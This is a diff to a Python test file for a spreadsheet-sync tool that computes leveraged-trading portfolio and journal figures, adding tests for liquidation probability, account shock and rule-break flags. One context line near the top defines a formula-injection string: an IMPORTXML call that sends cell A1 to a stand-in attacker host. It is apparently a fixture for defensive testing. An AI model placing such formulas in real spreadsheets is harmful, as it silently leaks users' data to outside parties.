@@ -18,7 +18,7 @@ import sheets_bridge as sb
 from bench.measure import naive_sync, sample_grids
 from leverage import journal, portfolio
 from leverage.errors import InputError
-from leverage.layout import JOURNAL_EVENTS, REBALANCE_POSITIONS, TEMPLATES
+from leverage.layout import JOURNAL_EVENTS, REBALANCE_POSITIONS, TEMPLATES, account_row
 from sheets_bridge.backend import Grid
 
 INJECTION = '=IMPORTXML("http://attacker.invalid/?q="&A1,"//a")'
@@ -138,12 +138,64 @@ def test_rebalance_sync_fills_positions_and_account(kind: str, fake: FakeSheets,
     expected = portfolio.rebalance(rows, 50_000.0, 20_000.0)
     account = book.values("Account")
     assert account[0] == ["Item", "Value"]
-    assert math.isclose(account[3][1], expected.account["total_notional"], rel_tol=1e-14)
-    assert math.isclose(account[9][1], expected.account["shortfall"], rel_tol=1e-12, abs_tol=1e-9)
+    row = {key: account_row(key) - 1 for key in expected.account}
+    assert math.isclose(account[row["total_notional"]][1], expected.account["total_notional"],
+                        rel_tol=1e-14)
+    assert math.isclose(account[row["shortfall"]][1], expected.account["shortfall"],
+                        rel_tol=1e-12, abs_tol=1e-9)
     got = _computed(book, "Positions", REBALANCE_POSITIONS)
     assert [math.isclose(r[6], m, rel_tol=1e-14) for r, m in
             zip(got, expected.columns["move"], strict=True)] == [True] * 12
     assert sb.sync(book.backend, "rebalance").changed is False
+
+
+def test_rebalance_sync_writes_liq_probability_and_account_shock(
+    kind: str, fake: FakeSheets, tmp_path: Path
+) -> None:
+    grids = sample_grids("rebalance", 12)
+    grids["Account"][account_row("volatility") - 1][1] = 0.8
+    grids["Account"][account_row("horizon_days") - 1][1] = 3
+    # a cross short, so the account has both sides
+    grids["Positions"][2][REBALANCE_POSITIONS.index("margin_mode")] = "cross"
+    book = make(kind, fake, tmp_path, grids)
+    sb.sync(book.backend, "rebalance")
+    keys = REBALANCE_POSITIONS.keys("input")
+    rows = [dict(zip(keys, r, strict=True)) for r in grids["Positions"][1:]]
+    expected = portfolio.rebalance(rows, 50_000.0, 20_000.0, 0.8, 3)
+    want = expected.columns["liq_probability"]
+    assert all(0 <= p <= 1 for p in want) and any(0 < p < 1 for p in want)
+    col = REBALANCE_POSITIONS.keys("computed").index("liq_probability")
+    got = [r[col] for r in _computed(book, "Positions", REBALANCE_POSITIONS)]
+    assert got == pytest.approx(want, rel=1e-14)
+    account = book.values("Account")
+    shock = account[account_row("account_shock") - 1][1]
+    assert math.isfinite(expected.account["account_shock"]) and shock != 0
+    assert math.isclose(shock, expected.account["account_shock"], rel_tol=1e-14)
+    assert account[account_row("shock_position") - 1][1] == expected.account["shock_position"]
+    assert sb.sync(book.backend, "rebalance").changed is False
+
+
+def test_journal_sync_flags_the_new_rules(kind: str, fake: FakeSheets, tmp_path: Path) -> None:
+    grids = sample_grids("journal", 45)
+    rules = {"add_within_buffer": 0.5, "max_liq_probability": 0.01, "volatility": 0.6,
+             "horizon_days": 7}
+    for row in grids["Rules"][1:]:
+        if row and row[0] in rules:
+            row[1] = rules[row[0]]
+    book = make(kind, fake, tmp_path, grids)
+    sb.sync(book.backend, "journal")
+    keys = JOURNAL_EVENTS.keys("input")
+    events = [dict(zip(keys, r[:7], strict=True)) for r in grids["Events"][1:]]
+    positions = [dict(zip(TEMPLATES["journal"][0].keys(), r, strict=True))
+                 for r in grids["Positions"][1:]]
+    rule = journal.AdjustmentRule(max_leverage=10, min_liq_distance=0.05, **rules)
+    want = journal.replay(positions, events, rule).columns["rule_breaks"]
+    col = JOURNAL_EVENTS.keys("computed").index("rule_breaks")
+    got = [_blank(r[col]) or "" for r in _computed(book, "Events", JOURNAL_EVENTS)]
+    assert got == want
+    flagged = "; ".join(want)
+    assert "liquidation probability above max" in flagged
+    assert "added while liquidation stays inside the add buffer" in flagged
 
 
 def test_bad_rows_get_a_message_and_the_others_still_compute(kind: str, fake: FakeSheets,
